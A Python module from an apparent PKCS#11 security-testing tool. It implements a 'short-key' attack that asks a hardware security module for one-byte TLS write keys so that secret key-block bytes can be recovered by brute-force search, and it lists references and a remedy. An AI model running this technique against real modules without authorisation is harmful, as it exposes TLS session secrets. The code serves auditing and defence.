"""short-key: write keys of one byte, wherever the MAC length puts them, each found by search."""

from collections.abc import Iterable
from typing import Final

from keyfence.cryptoki.constants import CKK
from keyfence.model import Key, Lengths

from .base import Attack, Technique
from .keymat import KeyRequest, cutting
from .keymat_attack import CutOption, Cuts, KeyMatAttack
from .ruler import Identify, Ruler, sampled
from .victim import Kind, Victim

_TYPES: Final = (CKK.GENERIC_SECRET, CKK.RC4, CKK.SHA256_HMAC, CKK.SHA_1_HMAC)
_LONGEST: Final = 104  # the longest secret part of a key block in use


class ShortKey(Technique):
    id = "short-key"
    title = "Key bytes searched as short write keys"
    summary = (
        "Key types of variable length (RC4, generic secrets) may be asked for at one byte. One use of such a key and 2^8 "
        "trials give the byte; the MAC length, also the caller's, puts the next key on the next bytes, or longer keys "
        "grow over them."
    )
    section = "PKCS#11 3.2 §6.39.6 and §6.40.6 (ulKeySizeInBits, CKA_VALUE_LEN)"
    references = (
        'IETF TLS mailing list, September 2013, "TLS and hardware security modules - some issues related to PKCS11"',
        "RFC 5246 §6.3",
    )
    remedy = (
        "One cut per master secret and randoms; write keys only of the suite's type and length; the separated key expansion."
    )
    kinds = frozenset({Kind.SSL3, Kind.TLS10, Kind.TLS12, Kind.WTLS, Kind.SEPARATED})

    def attacks(self, victim: Victim) -> Iterable[Attack]:
        return [ShortKeyAttack(victim, mechanism) for mechanism in cutting(victim)]


class ShortKeyAttack(KeyMatAttack):
    """The first key type that a module makes one byte long; slid by MAC lengths, grown where MAC lengths are fixed."""

    def measure(self, ruler: Ruler, identify: Identify) -> Cuts:
        for key_type in _TYPES:
            if not ruler.write_key_fits(KeyRequest.of(key_type, 1), 1, 0, identify):
                continue
            macs = ruler.offsets(KeyRequest.of(key_type, 1), 1, identify)
            lengths = Lengths.exactly(1) if len(list(macs)) > _LONGEST // 2 else self._growth(ruler, key_type, identify)
            return Cuts((CutOption(Key.of(key_type), lengths, lambda n, t=key_type: KeyRequest.of(t, n)),), macs)  # type: ignore[misc]
        return Cuts((), Lengths.exactly())

    def _growth(self, ruler: Ruler, key_type: int, identify: Identify) -> Lengths:
        def works(length: int) -> bool:
            return ruler.write_key_fits(KeyRequest.of(key_type, length), length, 0, identify)

        return sampled(works, (1, 2, 3, 5, 16, 32, self.target.length), _LONGEST)
